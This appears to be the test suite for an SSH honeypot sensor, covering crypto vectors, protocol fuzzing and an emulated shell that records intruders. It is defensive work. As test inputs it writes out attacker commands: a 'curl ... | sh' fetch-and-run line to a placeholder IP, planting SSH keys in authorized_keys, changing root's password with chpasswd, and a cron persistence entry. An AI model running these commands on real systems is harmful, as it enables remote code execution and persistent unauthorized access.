import { generateKeyPairSync } from 'node:crypto'
import fc from 'fast-check'
import { Client, type ClientChannel, type ConnectConfig } from 'ssh2'
import { expect, test } from 'vitest'
import { heard, testSensor } from '../../testing.ts'
import { families } from './family.ts'
import { connect } from './testing.ts'
import { poly1305 } from './poly1305.ts'
import { exchanges } from './kex.ts'
import { ciphers, macs } from './cipher.ts'
import { packer, unpacker } from './compression.ts'
import { umac } from './umac.ts'

// The client is ssh2, an implementation that is not ours; OpenSSH itself is driven by test/interop.

const exec = (client: Client, line: string, stdin?: Buffer): Promise<{ out: string; err: string; code: number }> =>
  new Promise((resolve, reject) => {
    client.exec(line, (error, stream) => {
      if (error) return reject(error)
      let [out, err, code] = ['', '', -1]
      stream.on('data', (chunk: Buffer) => (out += chunk.toString('latin1')))
      stream.stderr.on('data', (chunk: Buffer) => (err += chunk.toString('latin1')))
      stream.on('exit', (status: number) => (code = status))
      stream.on('close', () => resolve({ out, err, code }))
      if (stdin !== undefined) stream.end(stdin)
    })
  })

test('Poly1305 gives the tags of RFC 8439', () => {
  // §2.5.2, and vectors 3, 7 and 11 of appendix A.3, where carries are easily lost.
  const check = (key: string, message: Buffer, tag: string) =>
    expect(poly1305(Buffer.from(key, 'hex'), message).toString('hex')).toBe(tag)
  check(
    '85d6be7857556d337f4452fe42d506a80103808afb0db2fd4abff6af4149f51b',
    Buffer.from('Cryptographic Forum Research Group'),
    'a8061dc1305136c6c22b8baf0c0127a9',
  )
  check(`02${'0'.repeat(62)}`, Buffer.from('f'.repeat(32), 'hex'), `03${'0'.repeat(30)}`)
  check(`02${'0'.repeat(30)}${'f'.repeat(32)}`, Buffer.from(`02${'0'.repeat(30)}`, 'hex'), `03${'0'.repeat(30)}`)
  check(
    `01${'0'.repeat(62)}`,
    Buffer.from(`${'f'.repeat(32)}f0${'f'.repeat(30)}11${'0'.repeat(30)}`, 'hex'),
    `05${'0'.repeat(30)}`,
  )
})

test('UMAC gives the tags of RFC 4418', () => {
  const [key, nonce] = [Buffer.from('abcdefghijklmnop'), Buffer.from('bcdefghi')]
  const message = (text: string) => umac(key, 8)(nonce, Buffer.from(text)).toString('hex')
  expect(message('')).toBe('6e155fad26900be1')
  expect(message('aaa')).toBe('44b5cb542f220104')
  expect(message('a'.repeat(1024))).toBe('26bf2f5d60118bd9')
  expect(message('a'.repeat(2 ** 15))).toBe('27f8ef643b0d118d')
  expect(message('abc')).toBe('d4d7b9f6bd4fbfcf')
  expect(message('abc'.repeat(500))).toBe('d4cf26ddefd5c01a')
})

test('what is packed is unpacked the same, packet by packet, and nothing swells without end', () => {
  fc.assert(
    fc.property(fc.array(fc.uint8Array({ maxLength: 40_000 }), { maxLength: 6 }), (packets) => {
      const [pack, unpack] = [packer(), unpacker()]
      for (const packet of packets) expect(unpack(pack(Buffer.from(packet))).equals(Buffer.from(packet))).toBe(true)
    }),
    { numRuns: 40 },
  )
  expect(() => unpacker()(packer()(Buffer.alloc(1024 * 1024)))).toThrow(/too long/)
  expect(() => unpacker()(Buffer.from('no such stream'))).toThrow(/Invalid compressed data/)
})

test('one packet tells what Debian 11 tells', async () => {
  // hasshServer of OpenSSH 8.4p1 with the strict key exchange of its security update.
  await using lab = await testSensor()
  const {
    kex,
    ciphers: [...enc],
    macs: [...mac],
    compression,
  } = lab.sensor.persona.ssh
  expect([kex, enc, mac, compression].map((names) => names.join(',')).join(';')).toBe(
    'curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,' +
      'diffie-hellman-group-exchange-sha256,diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,' +
      'diffie-hellman-group14-sha256,kex-strict-s-v00@openssh.com;' +
      'chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com;' +
      'umac-64-etm@openssh.com,umac-128-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,' +
      'hmac-sha1-etm@openssh.com,umac-64@openssh.com,umac-128@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-sha1;' +
      'none,zlib@openssh.com',
  )
})

test('names all its host keys after log-in, and proves them', async () => {
  await using lab = await testSensor()
  const client = new Client().on('error', () => {})
  const [pair] = lab.sensor.persona.credentials
  // ssh2 asks for the proof and checks the signatures before it tells of keys.
  const keys = new Promise<{ type: string }[]>((resolve) => client.once('hostkeys', (found) => resolve(found as never)))
  client.connect({
    host: '127.0.0.1',
    port: lab.port('ssh'),
    username: pair?.user ?? '',
    password: pair?.password ?? '',
  })
  expect((await keys).map(({ type }) => type)).toEqual(['ssh-rsa', 'ecdsa-sha2-nistp256', 'ssh-ed25519'])
  client.end()
})

test('a session is played and recorded: ident, log-ins, command, output, recording', async () => {
  await using lab = await testSensor()
  const client = await connect(lab)
  expect(await exec(client, 'uname -m')).toEqual({ out: 'x86_64\n', err: '', code: 0 })
  expect(await exec(client, 'echo hi; nope; exit 3')).toEqual({
    out: 'hi\n',
    err: 'bash: line 1: nope: command not found\n',
    code: 3,
  })
  client.end()
  await lab.until('session.close')
  const events = await lab.events()
  expect(events.find(({ kind }) => kind === 'client.hello')?.data).toMatchObject({ ident: 'SSH-2.0-ssh2js1.17.0' })
  expect(events.filter(({ kind }) => kind === 'auth.attempt').at(-1)?.data).toMatchObject({
    method: 'password',
    accepted: true,
  })
  const run = events.filter((event) => event.kind === 'command.run')
  expect(run.map(({ data }) => [data.line, data.exit_code, data.cwd])).toEqual([
    ['uname -m', 0, '/root'],
    ['echo hi; nope; exit 3', 3, '/root'],
  ])
  expect(run[1]?.data.output).toBe('hi\nbash: line 1: nope: command not found\n')
  // What was printed stands in the events; only a terminal, or more than fits there, is recorded besides.
  expect(events.filter(({ kind }) => kind === 'recording.closed')).toHaveLength(0)
  expect(lab.log).toEqual([])
})

test('every algorithm that the persona offers works', async () => {
  await using lab = await testSensor()
  const face = lab.sensor.persona.ssh
  const offered = face.kex.filter((name) => !name.startsWith('kex-strict'))
  for (const name of offered) expect(exchanges[name], name).toBeDefined()
  for (const name of face.ciphers) expect(ciphers[name], name).toBeDefined()
  for (const name of face.macs) expect(macs[name], name).toBeDefined()
  const attempts: NonNullable<ConnectConfig['algorithms']>[] = [
    ...offered.map((name) => ({ kex: [name as 'curve25519-sha256'] })),
    ...face.ciphers.map((name) => ({ cipher: [name as 'aes128-ctr'] })),
    // ssh2 has no UMAC; OpenSSH tries those in test/interop.
    ...face.macs
      .filter((name) => !name.startsWith('umac'))
      .map((name) => ({ cipher: ['aes192-ctr' as const], hmac: [name as 'hmac-sha2-256'] })),
    { compress: ['zlib@openssh.com' as const] },
    ...face.hostKeyAlgorithms.map((name) => ({ serverHostKey: [name as 'ssh-ed25519'] })),
  ]
  for (const algorithms of attempts) {
    const client = await connect(lab, { algorithms })
    expect((await exec(client, 'whoami')).out, JSON.stringify(algorithms)).toBe('root\n')
    client.end()
  }
  expect(lab.log).toEqual([])
}, 60_000)

test('who comes from another address with a planted key, or a password that was set, comes into the same world', async () => {
  await using lab = await testSensor()
  const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
  const pem = privateKey.export({ type: 'pkcs1', format: 'pem' }).toString()
  const { n = '', e = '' } = publicKey.export({ format: 'jwk' })
  const part = (bytes: Buffer): Buffer =>
    Buffer.concat([Buffer.from([0, 0, bytes.length >> 8, bytes.length & 255]), bytes])
  const blob = Buffer.concat([
    part(Buffer.from('ssh-rsa')),
    part(Buffer.from(e, 'base64url')),
    part(Buffer.concat([Buffer.of(0), Buffer.from(n, 'base64url')])),
  ])
  const first = await connect(lab, { username: 'root', localAddress: '127.0.3.1' })
  await exec(
    first,
    `echo mine > /tmp/mark; mkdir -p ~/.ssh; echo "ssh-rsa ${blob.toString('base64')} a" >> ~/.ssh/authorized_keys; echo root:s3cret-of-mine | chpasswd`,
  )
  first.end()
  // Another address: neither does it see the world as it is, nor is the key of others good there …
  const stranger = await connect(lab, { username: 'root', localAddress: '127.0.3.2' })
  expect((await exec(stranger, 'cat /tmp/mark')).out).toBe('')
  stranger.end()
  // … but whoever has the key, or the password, is there.
  const withKey = await connect(lab, { username: 'root', privateKey: pem, localAddress: '127.0.3.3' })
  expect((await exec(withKey, 'cat /tmp/mark; echo more >> /tmp/mark')).out).toBe('mine\n')
  withKey.end()
  const withPassword = await connect(lab, { username: 'root', password: 's3cret-of-mine', localAddress: '127.0.3.4' })
  expect((await exec(withPassword, 'cat /tmp/mark')).out).toBe('mine\nmore\n')
  withPassword.end()
  await expect(connect(lab, { username: 'root', password: 'not-it', localAddress: '127.0.3.4' })).rejects.toThrow()
}, 60_000)

test('who puts the same program in the same place comes into the same world the next time', async () => {
  await using lab = await testSensor()
  const from = (localAddress: string) => connect(lab, { username: 'root', localAddress })
  const tool = `printf '#!/bin/sh\\n# %0300d\\n' 7 > /tmp/.tool`
  const first = await from('127.0.4.1')
  await exec(first, `${tool}; echo one > /tmp/first; echo "* * * * * /tmp/.tool" | crontab -`)
  first.end()
  const second = await from('127.0.4.2')
  await exec(second, `${tool}; echo two > /tmp/second`)
  expect((await exec(second, 'cat /tmp/first')).out).toBe('')
  second.end()
  const again = await from('127.0.4.2')
  expect((await exec(again, 'cat /tmp/first /tmp/second; crontab -l')).out).toBe('one\ntwo\n* * * * * /tmp/.tool\n')
  again.end()
  // The first sees what the other has left, and who has neither sees nothing.
  const back = await from('127.0.4.1')
  expect((await exec(back, 'cat /tmp/second')).out).toBe('two\n')
  back.end()
  const stranger = await from('127.0.4.3')
  // Other bytes, or another place, are no mark; who has a door of its own keeps its world.
  await exec(stranger, `${tool}; mv /tmp/.tool /tmp/.other; ${tool}x; echo root:my-0wn | chpasswd; ${tool}`)
  stranger.end()
  const own = await connect(lab, { username: 'root', password: 'my-0wn', localAddress: '127.0.4.3' })
  expect((await exec(own, 'cat /tmp/first')).out).toBe('')
  own.end()
  expect(lab.log).toEqual([])
}, 60_000)

test('a wrong password is refused, a planted key lets in, a changed password is the new one', async () => {
  await using lab = await testSensor()
  await expect(connect(lab, { username: 'root', password: 'no such thing at all' })).rejects.toThrow(/authentication/i)
  const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
  const { n = '', e = '' } = publicKey.export({ format: 'jwk' })
  const field = (bytes: Buffer) => Buffer.concat([Buffer.from([0, 0, bytes.length >> 8, bytes.length & 255]), bytes])
  const blob = Buffer.concat([
    field(Buffer.from('ssh-rsa')),
    field(Buffer.from(e, 'base64url')),
    field(Buffer.concat([Buffer.of(0), Buffer.from(n, 'base64url')])),
  ])
  const pem = privateKey.export({ format: 'pem', type: 'pkcs1' }).toString()
  await expect(connect(lab, { username: 'root', privateKey: pem })).rejects.toThrow(/authentication/i)

  const client = await connect(lab)
  await exec(client, `mkdir -p ~/.ssh && echo "ssh-rsa ${blob.toString('base64')} mdrfckr">>.ssh/authorized_keys`)
  await exec(client, 'echo "root:changed by the attacker"|chpasswd')
  client.end()
  expect((await lab.until('key.planted')).data.path).toBe('/root/.ssh/authorized_keys')
  expect((await lab.until('credential.changed')).data).toMatchObject({
    user: 'root',
    secret: 'changed by the attacker',
  })

  const again = await connect(lab, { username: 'root', privateKey: pem })
  expect((await exec(again, 'cat ~/.ssh/authorized_keys')).out).toContain('mdrfckr')
  again.end()
  const changed = await connect(lab, { username: 'root', password: 'changed by the attacker' })
  changed.end()
  const [pair] = lab.sensor.persona.credentials
  await expect(connect(lab, { username: pair?.user ?? '', password: pair?.password ?? '' })).rejects.toThrow(
    /authentication/i,
  )
}, 60_000)

test('an interactive shell has a prompt, echo, editing, and remembers its folder and functions', async () => {
  await using lab = await testSensor()
  const client = await connect(lab)
  const stream = await new Promise<ClientChannel>((resolve, reject) =>
    client.shell({ term: 'xterm-256color', cols: 100, rows: 40 }, (error, made) =>
      error ? reject(error) : resolve(made),
    ),
  )
  let text = ''
  stream.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')))
  const expectText = async (pattern: RegExp) => {
    for (let i = 0; i < 200 && !pattern.test(text); i++) await new Promise((resolve) => setTimeout(resolve, 25))
    expect(text).toMatch(pattern)
    text = ''
  }
  await expectText(/:~# $/)
  stream.write('cd /tmpp\u007f; f() { echo "<$1>"; }\r')
  await expectText(/:\/tmp# $/)
  stream.write('f "$PWD"\r')
  await expectText(/<\/tmp>\r\n.*:\/tmp# $/s)
  stream.write('for i in 1 2; do\r')
  await expectText(/> $/)
  stream.write('echo n$i; done\r')
  await expectText(/n1\r\nn2\r\n/)
  // What was one command is one in the history.
  stream.write('\u001b[A')
  await expectText(/for i in 1 2; do echo n\$i; done$/)
  stream.write('\u0015')
  await expectText(/\u001b\[K$/)
  // Several lines, pasted: each runs, and no prompt stands between them.
  stream.write("\u001b[200~echo a\necho 'b\nc'\n\u001b[201~")
  await expectText(/echo a.*\r\n.*echo 'b.*\r\n.*c'.*\r\n\r$/s)
  stream.write('\r')
  await expectText(/\[\?2004l\ra\r\nb\r\nc\r\n\S*:\/tmp# $/)
  stream.write('exit\r')
  await expectText(/logout/)
  client.end()
  expect(
    (await lab.until('client.hello', ({ data }) => data.options?.includes('TERM=xterm-256color') === true)).data
      .options,
  ).toContain('size=100x40')
  const { data } = await lab.until('recording.closed')
  expect(data.size).toBeGreaterThan(300)
})

test('what an attacker assembles or pipes in is kept as it is, byte by byte', async () => {
  await using lab = await testSensor()
  const client = await connect(lab)
  await exec(client, 'cd /tmp; echo -ne "\\x7f\\x45\\x4c\\x46\\xff\\x00\\x80" > .d; chmod 777 .d; ./.d')
  const stored = await lab.until('artifact.stored')
  expect(stored.data).toMatchObject({ name: '/tmp/.d', size: 7, media: 'application/x-elf' })
  const bytes = Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 7) % 256))
  await exec(client, 'cat > /tmp/bin', bytes)
  const piped = await lab.until('artifact.stored', ({ data }) => data.name === '/tmp/bin')
  const { createHash } = await import('node:crypto')
  expect(piped.data.sha256).toBe(createHash('sha256').update(bytes).digest('hex'))
  client.end()
})

test('a line waits for its input when it reads it, and only then; what comes is kept', async () => {
  await using lab = await testSensor()
  const client = await connect(lab)
  const some = Buffer.from('0123456789abcde\n'.repeat(20_000))
  for (const [line, out] of [
    ['wc -c', '320000\n'],
    ['sudo wc -l', '20000\n'],
    ['read a; echo $a; wc -l', '0123456789abcde\n19999\n'],
    ['head -n 1 | tr a-e A-E; cat /dev/stdin', '0123456789ABCDE\n'],
    ['n=0; while read -r line; do n=$((n+1)); [ $n = 3 ] && break; done; echo $n', '3\n'],
    ['x=$(cat); echo ${#x}', '319999\n'],
    ['sh -c "cat > /tmp/a"; wc -c < /tmp/a', '320000\n'],
    ['tee -a /tmp/b | wc -c; wc -c < /tmp/b', '320000\n320000\n'],
  ] as const)
    expect(await exec(client, line, some), line).toEqual({ out, err: '', code: 0 })
  // Nobody sends these anything, or an end: they do not read.
  for (const line of ['uname', 'sudo id -un', 'ls /etc/hostname; id -un', 'sh -c "echo root"', 'su -c "id -un"']) {
    const out = await new Promise<string>((resolve, reject) =>
      client.exec(line, (error, stream) => {
        if (error) return reject(error)
        let said = ''
        stream.on('data', (part: Buffer) => (said += part.toString())).on('close', () => resolve(said))
      }),
    )
    expect(out, line).toMatch(/^(?:Linux|root|\/etc\/hostname\nroot)\n$/)
  }
  const script = Buffer.from(
    '#!/bin/sh\nid -un\nread answer\nyes it is\necho "$answer"; curl -s http://192.0.2.9/next | sh\n',
  )
  expect((await exec(client, 'bash -s', script)).out).toBe('root\nyes it is\n')
  const kept = await lab.until('artifact.stored', ({ data }) => data.size === script.length)
  expect(kept.data).toMatchObject({ name: 'standard input', media: 'text/x-shellscript' })
  const [parent] = (await lab.events()).filter((event) => event.id === kept.data.parent)
  expect(parent).toMatchObject({ kind: 'command.run', data: { line: 'bash -s' } })
  expect((await lab.until('payload.seen')).data.url).toBe('http://192.0.2.9/next')
  await exec(client, 'sleep 0.5', Buffer.from('nobody reads this'))
  await lab.until('artifact.stored', ({ data }) => data.size === 17)
  client.end()
  expect(lab.log).toEqual([])
}, 60_000)

test('a wish to be connected on is recorded with its first bytes, and never granted', async () => {
  await using lab = await testSensor()
  const client = await connect(lab)
  await new Promise<void>((resolve, reject) =>
    client.forwardOut('127.0.0.1', 1, 'mail.example', 25, (error, stream) => {
      if (error) return reject(error)
      stream.on('close', () => resolve()).resume()
      stream.end('EHLO me\r\n')
    }),
  )
  client.end()
  expect((await lab.until('forward.request')).data).toMatchObject({ host: 'mail.example', port: 25 })
  expect(Buffer.from((await lab.until('forward.data')).data.raw, 'base64').toString()).toBe('EHLO me\r\n')
})

test('hostile channel parameters do not stop the sensor', async () => {
  await using lab = await testSensor()
  for (const packetSize of [0, 1, 255]) {
    const client = await connect(lab)
    const inner = client as unknown as {
      _protocol: {
        _packetRW: unknown
        channelOpenFailure: unknown
        session: (chan: number, window: number, packet: number) => void
      }
    }
    inner._protocol.session(7, 100_000, packetSize)
    await new Promise((resolve) => setTimeout(resolve, 100))
    client.end()
  }
  const client = await connect(lab)
  expect((await exec(client, 'whoami')).out).toBe('root\n')
  client.end()
})

test('damaged key exchanges end a conversation and nothing else', async () => {
  await using lab = await testSensor()
  await fc.assert(
    fc.asyncProperty(fc.uint8Array({ minLength: 1, maxLength: 300 }), fc.boolean(), async (bytes, framed) => {
      const socket = await lab.connect('ssh')
      socket.resume()
      const head = Buffer.alloc(5)
      head.writeUInt32BE(bytes.length + 1 + 4, 0)
      head[4] = 4
      socket.write('SSH-2.0-fuzz\r\n')
      socket.end(framed ? Buffer.concat([head, Buffer.from(bytes), Buffer.alloc(4)]) : bytes)
      await new Promise((resolve) => socket.once('close', resolve))
    }),
    { numRuns: 100 },
  )
  expect(lab.log).toEqual([])
}, 60_000)

test('behind a forwarded connection stands nobody: mail is taken, a page is shown, TLS is told apart, nothing is connected to', async () => {
  await using lab = await testSensor()
  const client = await connect(lab)
  const through = async (
    host: string,
    port: number,
    said: readonly (string | Buffer)[],
    first = true,
  ): Promise<string> => {
    const stream = await new Promise<ClientChannel>((resolve, reject) =>
      client.forwardOut('127.0.0.1', 1, host, port, (error, channel) => (error ? reject(error) : resolve(channel))),
    )
    let out = ''
    const ended = new Promise<void>((resolve) => stream.once('close', resolve))
    const more = (seen: number) =>
      new Promise<void>((resolve) => {
        const timer = setInterval(() => {
          if (out.length <= seen && !stream.destroyed) return
          clearInterval(timer)
          resolve()
        }, 5)
      })
    stream.on('data', (part: Buffer) => (out += part.toString('latin1')))
    if (first) await more(0)
    for (const part of said) {
      const seen = out.length
      stream.write(part)
      await Promise.race([more(seen), ended])
    }
    stream.end()
    await ended
    return out
  }
  const mail = await through('mx.example', 25, [
    'EHLO me\r\n',
    `AUTH PLAIN ${Buffer.from('\0bob\0s3cret').toString('base64')}\r\n`,
    'MAIL FROM:<a@b.example>\r\n',
    'RCPT TO:<c@d.example>\r\n',
    'DATA\r\n',
    'Subject: test\r\n\r\nhttp://192.0.2.44/pay\r\n..dot\r\n.\r\n',
    'QUIT\r\n',
  ])
  expect(mail).toMatch(/^220 mx\.example ESMTP[^]*235 [^]*354 [^]*250 2\.0\.0 Ok: queued as [0-9A-F]{10}\r\n221 /)
  const web = await through(
    'www.example',
    80,
    ['GET / HTTP/1.1\r\nHost: www.example\r\nConnection: close\r\n\r\n'],
    false,
  )
  expect(web).toMatch(/^HTTP\/1\.1 200 OK\r\n[^]*It works/)
  const hello = Buffer.concat([
    Buffer.from('16030100410100003d0303', 'hex'),
    Buffer.alloc(32, 5),
    Buffer.from('00000213010100001200000010000e00000b6578616d706c652e6e6574', 'hex'),
  ])
  expect(Buffer.from(await through('t.example', 443, [hello], false), 'latin1').toString('hex')).toBe('15030100020228')
  client.end()
  const events = await lab.events()
  const forwarded = events.flatMap((event) =>
    event.kind === 'forward.data' ? [[event.data.host, event.data.protocol]] : [],
  )
  expect(forwarded).toEqual([
    ['mx.example', 'smtp'],
    ['www.example', 'http'],
    ['t.example', 'tls'],
  ])
  expect(events.find((event) => event.kind === 'auth.attempt' && event.data.method === 'smtp')?.data).toMatchObject({
    user: 'bob',
    secret: 's3cret',
  })
  expect(events.find((event) => event.kind === 'artifact.stored')?.data).toMatchObject({
    media: 'message/rfc822',
    size: 46,
  })
  expect(events.some((event) => event.kind === 'payload.seen' && event.data.url === 'http://192.0.2.44/pay')).toBe(true)
  expect(lab.log).toEqual([])
}, 30_000)

test('who takes too long to sign in is hung up on, and who is in is not', async () => {
  const family = families.openssh as { graceMs: number }
  const { graceMs } = family
  family.graceMs = 2500
  try {
    await using lab = await testSensor()
    const client = await connect(lab, { username: 'root' })
    const socket = await lab.connect('ssh')
    expect(await heard(socket, undefined, 10_000)).toMatch(/^SSH-2\.0-OpenSSH_[^\r\n]*\r\n$/)
    expect((await exec(client, 'echo still here')).out).toBe('still here\n')
    client.end()
    expect(lab.log).toEqual([])
  } finally {
    family.graceMs = graceMs
  }
}, 30_000)
